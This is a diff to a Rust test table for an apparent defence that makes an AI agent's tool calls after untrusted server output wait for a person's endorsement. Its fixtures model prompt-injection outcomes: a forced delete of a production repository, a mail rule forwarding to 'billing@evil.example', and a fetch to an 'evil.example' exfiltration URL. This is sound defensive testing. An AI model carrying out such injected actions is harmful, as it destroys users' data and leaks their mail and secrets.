@@ -22,9 +22,10 @@ enum Expect {
     Free(&'static str),
     Rule(&'static [usize], &'static str),
     Flag(&'static str),
-    /// Sources (server, items), highlights (pointer, fragment), reason.
+    /// Sources (server, items, rule), highlights (pointer, fragment),
+    /// reason.
     Ask(
-        &'static [(&'static str, usize)],
+        &'static [(&'static str, usize, Option<usize>)],
         &'static [(&'static str, &'static str)],
         &'static str,
     ),
@@ -84,7 +85,7 @@ fn rows() -> Vec<Row> {
             context: &[(From::User, "look at ticket 7"), (From::Server("tickets"), INJECTION)],
             call: ("repo", "delete", json!({"repo": "acme/prod-2024", "force": true}), false),
             expect: Expect::Ask(
-                &[("tickets", 1)],
+                &[("tickets", 1, None)],
                 &[("/repo", "acme/prod-2024")],
                 "`repo/delete`, a consequential tool (not read-only by a server whose annotations \
                  are trusted), after untrusted output from server `tickets` (1 item): a person's \
@@ -102,7 +103,7 @@ fn rows() -> Vec<Row> {
             ],
             call: ("mail", "create_rule", json!({"forward_to": "billing@evil.example"}), false),
             expect: Expect::Ask(
-                &[("mail", 2)],
+                &[("mail", 2, None)],
                 &[("/forward_to", "billing@evil.example")],
                 "`mail/create_rule`, a consequential tool (not read-only by a server whose \
                  annotations are trusted), after untrusted output from server `mail` (2 items): a \
@@ -129,7 +130,7 @@ fn rows() -> Vec<Row> {
                 true,
             ),
             expect: Expect::Ask(
-                &[("web", 1)],
+                &[("web", 1, None)],
                 &[("/url", "https://evil.example/c?d=")],
                 "`web/fetch`, an egress tool (egress pattern 1 `web/*`), after untrusted output \
                  from server `web` (1 item): a person's endorsement is needed",
@@ -165,7 +166,7 @@ fn rows() -> Vec<Row> {
             context: &[(From::Server("tickets"), INJECTION)],
             call: ("repo", "list", json!({}), false),
             expect: Expect::Ask(
-                &[("tickets", 1)],
+                &[("tickets", 1, None)],
                 &[],
                 "`repo/list`, a consequential tool (not read-only by a server whose annotations are \
                  trusted), after untrusted output from server `tickets` (1 item): a person's \
@@ -182,11 +183,11 @@ fn rows() -> Vec<Row> {
             ],
             call: ("notes", "append", json!({"text": "Agenda: budget"}), false),
             expect: Expect::Ask(
-                &[("web", 1)],
+                &[("mail", 1, Some(0)), ("web", 1, None)],
                 &[],
                 "`notes/append`, a consequential tool (not read-only by a server whose annotations \
-                 are trusted), after untrusted output from server `web` (1 item) (flow rules 0 \
-                 cover the other sources, not these): a person's endorsement is needed",
+                 are trusted), after untrusted output from server `web` (1 item), which no flow \
+                 rule allows (rules allow the others): a person's endorsement is needed",
             ),
         },
         Row {
@@ -206,8 +207,8 @@ fn rows() -> Vec<Row> {
             expect: Expect::Rule(
                 &[1, 2],
                 "`notes/append`, a consequential tool (not read-only by a server whose annotations \
-                 are trusted): flow rules 1, 2 cover every untrusted source (server `mail` (1 \
-                 item), server `web` (2 items))",
+                 are trusted): flow rules allow every untrusted source: server `mail` (1 item, \
+                 allowed by flow rule 1), server `web` (2 items, allowed by flow rule 2)",
             ),
         },
         Row {
@@ -217,7 +218,7 @@ fn rows() -> Vec<Row> {
             context: &[(From::Server("mail"), "x")],
             call: ("notes", "delete", json!({}), false),
             expect: Expect::Ask(
-                &[("mail", 1)],
+                &[("mail", 1, None)],
                 &[],
                 "`notes/delete`, a consequential tool (not read-only by a server whose annotations \
                  are trusted), after untrusted output from server `mail` (1 item): a person's \
@@ -258,8 +259,8 @@ fn rows() -> Vec<Row> {
             expect: Expect::Rule(
                 &[0],
                 "`repo/delete`, a consequential tool (not read-only by a server whose annotations \
-                 are trusted): flow rules 0 cover every untrusted source (server `tickets` (1 \
-                 item))",
+                 are trusted): flow rules allow every untrusted source: server `tickets` (1 item, \
+                 allowed by flow rule 0)",
             ),
         },
     ]
@@ -322,10 +323,10 @@ fn table() {
             }
             (Expect::Ask(sources, highlights, reason), FlowDecision::NeedsEndorsement(q)) => {
                 assert_eq!(q.reason(), *reason, "{name}");
-                let got: Vec<(&str, usize)> = q
+                let got: Vec<(&str, usize, Option<usize>)> = q
                     .sources()
                     .iter()
-                    .filter_map(|s| Some((s.origin.server()?, s.items)))
+                    .filter_map(|s| Some((s.origin.server()?, s.items, s.rule)))
                     .collect();
                 assert_eq!(got, *sources, "{name}");
                 let got: Vec<(&str, &str)> = q
